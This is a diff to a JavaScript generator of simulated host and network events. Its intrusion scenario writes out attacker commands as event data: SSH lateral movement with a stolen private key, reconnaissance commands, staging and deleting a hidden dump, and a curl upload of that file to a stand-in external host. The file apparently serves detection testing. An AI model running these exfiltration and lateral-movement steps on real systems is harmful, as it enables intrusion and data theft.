@@ -86,9 +86,8 @@ class Node {
 
 const ns = (ms) => String(BigInt(Math.floor(ms)) * 1_000_000n + BigInt(Math.floor((ms % 1) * 1e6)));
 
-/** A connection between two processes (or out to an address): both sides' events.  The process that
- * accepts it may hand it to one that it forks: @served. */
-function connect(ms, from, to, port, { bytes = [1200, 5300], lasts = 900, served = to } = {}) {
+/** A connection between two processes (or out to an address): both sides' events. */
+function connect(ms, from, to, port, { bytes = [1200, 5300], lasts = 900 } = {}) {
 	const a = { ip: from.node.ip, port: from.node.port++ };
 	const b = { ip: typeof to === 'string' ? to : to.node.ip, port };
 	const flow = {
@@ -99,7 +98,7 @@ function connect(ms, from, to, port, { bytes = [1200, 5300], lasts = 900, served
 	for (const [p, action, direction] of sides) {
 		const late = direction === 'ingress' ? 0.3 : 0;
 		p.node.event(ms + late, action, p, { ...flow, 'network.direction': direction });
-		p.node.event(ms + lasts + late, 'disconnect_received', p === to ? served : p, { ...flow, 'network.direction': direction, 'source.bytes': bytes[0], 'destination.bytes': bytes[1] });
+		p.node.event(ms + lasts + late, 'disconnect_received', p, { ...flow, 'network.direction': direction, 'event.duration': Math.floor(lasts * 1e6), 'source.bytes': bytes[0], 'destination.bytes': bytes[1] });
 	}
 }
 
@@ -171,7 +170,7 @@ function intrusion(fleet, t) {
 	const ssh = web.run(at(41), agent, '/usr/bin/ssh', ['ssh', '-i', '/srv/app/.ssh/id_ed25519', '-o', 'StrictHostKeyChecking=no', 'deploy@10.0.4.21']);
 	web.open(at(41.1), ssh, '/srv/app/.ssh/id_ed25519');
 	const session = db.run(at(41.3), db.sshd, '/usr/sbin/sshd', ['sshd: deploy [priv]']);
-	connect(at(41.25), ssh, db.sshd, 22, { bytes: [8120, 22_900], lasts: 210_000, served: session });
+	connect(at(41.25), ssh, db.sshd, 22, { bytes: [8120, 22_900], lasts: 210_000 });
 	const bash = db.run(at(42), session, '/usr/bin/bash', ['-bash'], { user: 'deploy', uid: 1001 });
 	for (const [s, exe, args] of [[44, '/usr/bin/id', ['id']], [47, '/usr/bin/hostname', ['hostname', '-I']], [52, '/usr/bin/ss', ['ss', '-tlnp']]]) {
 		const p = db.run(at(s), bash, exe, args);
@@ -188,14 +187,14 @@ function intrusion(fleet, t) {
 	const scp = db.run(at(118), root, '/usr/bin/scp', ['scp', '/var/tmp/.o.dump', 'ops@10.0.4.5:/tmp/.o']);
 	const ssh2 = db.run(at(118.1), scp, '/usr/bin/ssh', ['ssh', '-oForwardX11=no', 'ops@10.0.4.5', 'scp', '-t', '/tmp/.o']);
 	const session2 = bastion.run(at(118.4), bastion.sshd, '/usr/sbin/sshd', ['sshd: ops [priv]']);
-	connect(at(118.35), ssh2, bastion.sshd, 22, { bytes: [18_460_002, 9_300], lasts: 16_000, served: session2 });
+	connect(at(118.35), ssh2, bastion.sshd, 22, { bytes: [18_460_002, 9_300], lasts: 16_000 });
 	const scpt = bastion.run(at(118.9), session2, '/usr/bin/scp', ['scp', '-t', '/tmp/.o'], { user: 'ops', uid: 1002 });
 	bastion.write(at(119.4), scpt, '/tmp/.o');
 	bastion.end(at(134), scpt);
 	db.event(at(140), 'deletion', root, { 'file.path': '/var/tmp/.o.dump', 'event.outcome': 'success' });
 	const session3 = bastion.run(at(150.2), bastion.sshd, '/usr/sbin/sshd', ['sshd: ops [priv]']);
 	const hop = db.run(at(150), root, '/usr/bin/ssh', ['ssh', 'ops@10.0.4.5']);
-	connect(at(150.15), hop, bastion.sshd, 22, { bytes: [4100, 7800], lasts: 60_000, served: session3 });
+	connect(at(150.15), hop, bastion.sshd, 22, { bytes: [4100, 7800], lasts: 60_000 });
 	const bash3 = bastion.run(at(151), session3, '/usr/bin/bash', ['-bash'], { user: 'ops', uid: 1002 });
 	const out = bastion.run(at(162), bash3, '/usr/bin/curl', ['curl', '-sT', '/tmp/.o', 'https://203.0.113.66/u']);
 	bastion.open(at(162.05), out, '/tmp/.o');
